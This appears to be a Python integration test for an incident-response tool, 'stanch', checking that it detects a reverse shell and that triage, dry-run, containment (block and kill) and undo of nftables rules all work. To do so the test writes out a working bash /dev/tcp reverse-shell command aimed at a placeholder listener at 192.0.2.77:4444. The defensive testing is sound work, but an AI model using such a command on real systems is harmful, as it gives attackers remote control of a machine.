# SPDX-License-Identifier: GPL-3.0-or-later
"""contain of what triage finds: one sequence, one question, one line back."""
import re
import subprocess

import container_bed as B

LISTEN = """
import socket, sys, time
s = socket.create_server(('192.0.2.77', 4444)); print('ready', flush=True)
c, _ = s.accept(); print('in', flush=True); time.sleep(300)
"""


def test_a_reverse_shell_is_cut_off_then_ended(fresh):
    B.run("ip", "-n", fresh.name + "o", "addr", "add", "192.0.2.77/24", "dev", "eth0")
    far = subprocess.Popen(["ip", "netns", "exec", fresh.name + "o", "/usr/bin/python3", "-c", LISTEN],
                           stdout=subprocess.PIPE, text=True)
    try:
        assert far.stdout.readline() == "ready\n"
        pid = fresh.start("bash", "-c", "exec bash 0<>/dev/tcp/192.0.2.77/4444 1>&0 2>&0 "
                          "-c 'while :; do sleep 1; done'", unit="shell")
        assert far.stdout.readline() == "in\n"
        found = [f for f in fresh.stanch("triage", "--json").objects() if f"kill {pid}" in str(f)]
        assert found, fresh.stanch("triage")
        listed = fresh.stanch("incident", "show").out
        ids = re.findall(r"\bf\d+\b", "\n".join(line for line in listed.splitlines() if str(pid) in line)) or ["f1"]
        dry = fresh.stanch("contain", ids[0], "--dry-run")
        assert dry.code == 0 and fresh.state_of(pid) == "S", dry
        r = fresh.stanch("contain", ids[0], "--yes")
        assert r.code in (0, 5), str(r)
        assert fresh.state_of(pid) == ""
        verbs = re.findall(r"^o\d+ (\w+): ", r.out, re.M)
        assert verbs == ["block", "kill"], r
        back = re.search(r"To take all of it back: +stanch (undo( o\d+)+)", r.out)
        assert back, r
        assert fresh.run("nft", "list", "ruleset").stdout.count("stanch") > 0
        fresh.stanch(*back.group(1).split(), "--yes")
        assert "stanch" not in fresh.run("nft", "list", "ruleset").stdout
    finally:
        far.kill()
        far.wait()
